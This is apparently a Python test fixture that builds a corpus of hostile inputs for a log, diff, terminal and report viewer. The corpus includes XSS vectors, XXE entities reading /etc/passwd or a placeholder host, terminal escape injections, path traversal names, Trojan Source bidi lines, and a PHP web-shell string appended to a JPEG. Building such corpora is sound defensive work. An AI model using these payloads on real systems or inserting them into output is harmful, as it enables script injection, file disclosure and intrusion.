"""The corpus: each payload tries to run script, open a dialog, or reach another origin, in its own format.

What runs would set ``window.hit``, open a dialog or ask ``elsewhere.invalid`` for something; the
test that opens the corpus watches for all three.
"""

from __future__ import annotations

import io
import struct
import zlib
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

AWAY = "https://elsewhere.invalid"
RUN = "window.hit=1;alert(1)"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile piece: which kind of evidence carries it, and its bytes."""

    name: str
    kind: str
    content: bytes


def _all(kind: str, prefix: str, texts: list[str]) -> list[Payload]:
    return [Payload(f"{prefix}-{number}", kind, text.encode()) for number, text in enumerate(texts, 1)]


MARKUP = [
    f"<script>{RUN}</script>",
    f"<script src={AWAY}/x.js></script>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src={AWAY}/pixel.png>",
    f"<svg onload='{RUN}'>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<a href='javascript:{RUN}'>read me</a>",
    f"<body onload='{RUN}'>",
    f"<details open ontoggle='{RUN}'>x</details>",
    f"<input autofocus onfocus='{RUN}'>",
    f"<video><source onerror='{RUN}'></video>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    f"<embed src={AWAY}/x.swf>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<style>@import url({AWAY}/x.css);*{{background:url({AWAY}/y)}}</style>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}/>",
    f"<form action={AWAY}><button autofocus>Accept</button></form>",
    f"</td></tr></table></div></section><script>{RUN}</script>",
    f"</textarea></title></style></script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"{{% load x %}}{{{{ request }}}}<script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<portal src={AWAY}></portal>",
    f"<div hx-get='{AWAY}' hx-trigger='load'>x</div>",
    f"<div hx-on:load='{RUN}' data-live='{AWAY}' data-load>x</div>",
    f"<button data-does='met' data-key='y' data-sheet='accept'>Accept</button><script>{RUN}</script>",
]
"""HTML that a log, a report or a file may hold."""

DOCUMENTS = [
    f"<!doctype html><html><body><script>{RUN}</script></body></html>",
    f"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{AWAY}/p.png'/><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'/></foreignObject></svg>",
    f"<?xml version='1.0'?><?xml-stylesheet href='{AWAY}/x.xsl' type='text/xsl'?><a/>",
    f"<!DOCTYPE a [<!ENTITY b SYSTEM '{AWAY}/dtd'>]><a>&b;</a>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    f"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1);{RUN})>>>>endobj\ntrailer<</Root 1 0 R>>",
    f"%PDF-1.4\n<script>{RUN}</script>",
    f"GIF89a/*<svg/onload={RUN}>*/=1;{RUN}",
    f"\x89PNG\r\n<script>{RUN}</script>",
    f"MIME-Version: 1.0\nContent-Type: multipart/related\n\n<script>{RUN}</script>",
    f"<html manifest='{AWAY}/m'><script>{RUN}</script>",
    f"#!/bin/sh\ncurl {AWAY}\n<script>{RUN}</script>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><script>{RUN}</script></xsl:template></xsl:stylesheet>",
]
"""Whole documents that a browser would run if it were let."""

TERMINAL = [
    f"\x1b]8;;javascript:{RUN}\x07press\x1b]8;;\x07",
    f"\x1b]8;;{AWAY}\x1b\\press\x1b]8;;\x1b\\",
    f"\x1b]0;<script>{RUN}</script>\x07title",
    f"\x1b]2;</title><script>{RUN}</script>\x1b\\",
    f"\x1b]52;c;PHNjcmlwdD4=\x07<script>{RUN}</script>",
    f"\x1b]1337;File=inline=1:PHN2Zy8+\x07<svg onload={RUN}>",
    f"\x1bP+q<script>{RUN}</script>\x1b\\after",
    f"\x1b_G<script>{RUN}</script>\x1b\\after",
    f"\x1b^<script>{RUN}</script>\x1b\\after",
    f"\x1bX<script>{RUN}</script>\x1b\\after",
    f"\x1b]0;never ended <script>{RUN}</script>",
    f"\x1b[<script>{RUN}</script>m",
    f'\x1b[31" onmouseover="{RUN}"m red',
    f"\x1b[38;2;1;2;3m<img src=x onerror={RUN}>\x1b[0m",
    f"\x1b[2J\x1b[H\x1b[32mAll tests passed\x1b[0m<script>{RUN}</script>",
    f"100% failed\rall good <script>{RUN}</script>",
    f"\x9b31m<script>{RUN}</script>\x9d0;x\x9c",
    f"\x1b\x1b\x1b]\x07<scr\x1b[0mipt>{RUN}</scr\x1b[0mipt>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"\x1b[8mhidden <script>{RUN}</script>\x1b[28m",
    "\x1b[" + "9;" * 4_000 + f"m<script>{RUN}</script>",
    f"\x08\x08\x08<script>{RUN}</script>\x7f",
]
"""Control sequences of terminals: links, titles, clipboards, pictures, colours."""

PATHS = [
    f"app/<script>{RUN}<script>.py",
    f'app/" onmouseover="{RUN}.py',
    f"app/'><img src=x onerror={RUN}>.py",
    "../../../../etc/passwd",
    "/etc/shadow",
    f"javascript:{RUN}",
    f"{AWAY}/x.py",
    f"//elsewhere.invalid/{RUN}.svg",
    "app/\u202egpj.exe",
    "app/inv\u200bisible\u2066.py",
    "app/\U000e0061\U000e0062tags.py",
    "app/" + "a" * 400 + ".py",
    f"app/{{{{ request.session }}}}{{% include '{AWAY}' %}}.html",
    f'app/x.py" /><base href="{AWAY}/',
    "app/#f0?view=split&w=1",
    "app/%3Cscript%3E%0d%0aSet-Cookie:a=b.py",
    "CON.txt::$DATA",
    f"app/x`{RUN}`.md",
]
"""Names of files in a diff."""

LINES = [
    "if access != 'user\u202e \u2066// only admins\u2069 \u2066' {",
    "\u202e\u2066 } \u2069\u2066 if (isAdmin)\u2069 \u2066 begin admins only",
    "let \u0430dmin = 1; \u200b\u200c\u200d\ufeff",
    f"<script>{RUN}</script>",
    f"<img src={AWAY}/p.png onerror={RUN}>",
    f"</td></tr></tbody></table><script>{RUN}</script>",
    f"{{{{ x }}}} {{% csrf_token %}} ${{`{RUN}`}}",
    f"<mark><span class=\"k\"><style>@import '{AWAY}'</style>",
    "diff --git a/other b/other",
    "@@ -1,999999999 +1,999999999 @@",
    "\\ No newline at end of file",
    "--- a/other\n+++ b/other",
]
"""Lines of a diff."""

MARKDOWN = [
    f"[read me](javascript:{RUN})",
    f"![p]({AWAY}/pixel.png)",
    f"<script>{RUN}</script>",
    f'[x]: {AWAY} "title" onmouseover={RUN}',
    f"<img src=x onerror={RUN}>",
    f"```html\n<script>{RUN}</script>\n```",
    f"<{AWAY}>",
    f"[a](data:text/html,<script>{RUN}</script>)",
]
"""Words of an agent, as summary, needs, claim, command or page."""


def pictures() -> list[Payload]:
    """Pictures that are also something else, or are not what they begin as."""
    out = io.BytesIO()
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", f"<script>{RUN}</script>")
    notes.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta xmlns:x='{AWAY}'><script>{RUN}</script></x:xmpmeta>")
    Image.new("RGB", (390, 40), "white").save(out, "PNG", pnginfo=notes)
    png = out.getvalue()
    html = f"<html><script>{RUN}</script></html>".encode()
    jpeg = io.BytesIO()
    Image.new("RGB", (390, 40), "white").save(jpeg, "JPEG", comment=html)
    header = b"IHDR" + struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    huge = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + header + struct.pack(">I", zlib.crc32(header))
    contents = [
        png,
        png + html,
        png[: len(png) // 2],
        png[:60] + b"\xff" * 40 + png[100:],
        jpeg.getvalue(),
        jpeg.getvalue() + b"<?php system($_GET[0]); ?>" + html,
        huge,
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>".encode(),
        b"RIFF\xff\xff\xff\xffWEBPVP8 " + html,
        b"GIF89a" + html,
        b"\x00\x00\x01\x00" + html,
        b"",
    ]
    return [Payload(f"shot{number}-390", "screenshot", content) for number, content in enumerate(contents, 1)]


def reports() -> list[Payload]:
    """Test reports with names and messages that are markup, and XML that reaches outside."""
    named = [
        f'<testsuite><testcase name="{_attribute(text)}" classname="c"><failure message="{_attribute(text)}"/></testcase></testsuite>'
        for text in MARKUP[:8]
    ]
    outside = [
        f"<!DOCTYPE a [<!ENTITY b SYSTEM '{AWAY}/dtd'>]><testsuite><testcase name='&b;'/></testsuite>",
        "<!DOCTYPE a [<!ENTITY b 'bbbb'><!ENTITY c '&b;&b;&b;'>]><testsuite><testcase name='&c;'/></testsuite>",
        f"<testsuite xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='{AWAY}'/></testsuite>",
        "<a>" * 3_000,
    ]
    return _all("test-report", "report", named + outside)


def _attribute(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").replace("\0", "")


def diff() -> Payload:
    """One diff with every hostile name, each with every hostile line; then headers that lie."""
    body = "".join(f"+{line}\n" for line in LINES)
    count = body.count("\n")
    files = [
        f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{count} @@ <script>{RUN}</script>\n{body}"
        for path in PATHS
    ]
    lies = (
        f'diff --git "a/<svg onload={RUN}>\\074\\042" "b/\\074img src=x onerror={RUN}\\076"\nrename from <b>\nrename to "\\074script\\076"\n'
        f"diff --git a/bin b/bin\nBinary files <script>{RUN}</script> and b/bin differ\n"
        "--- a/x\n+++ b/x\n@@ -1,1 +1,900 @@\n-a\n+b\n"
        f"--- <img src={AWAY}/x>\t2026\n+++ <img src={AWAY}/x>\t2026\n@@ -1 +1 @@\n-a\n+b\n"
    )
    return Payload("diff", "diff", ("".join(files) + lies).encode())


def evidence() -> list[Payload]:
    """Everything but the diff, each item of the kind whose viewer it is aimed at."""
    return [
        *_all("log", "markup", MARKUP),
        *_all("file", "document", DOCUMENTS),
        *_all("command", "terminal", TERMINAL),
        *pictures(),
        *reports(),
    ]


def count() -> int:
    """How many payloads there are in all: pieces of evidence, names, lines and words."""
    return len(evidence()) + len(PATHS) + len(LINES) + len(MARKDOWN) + 4
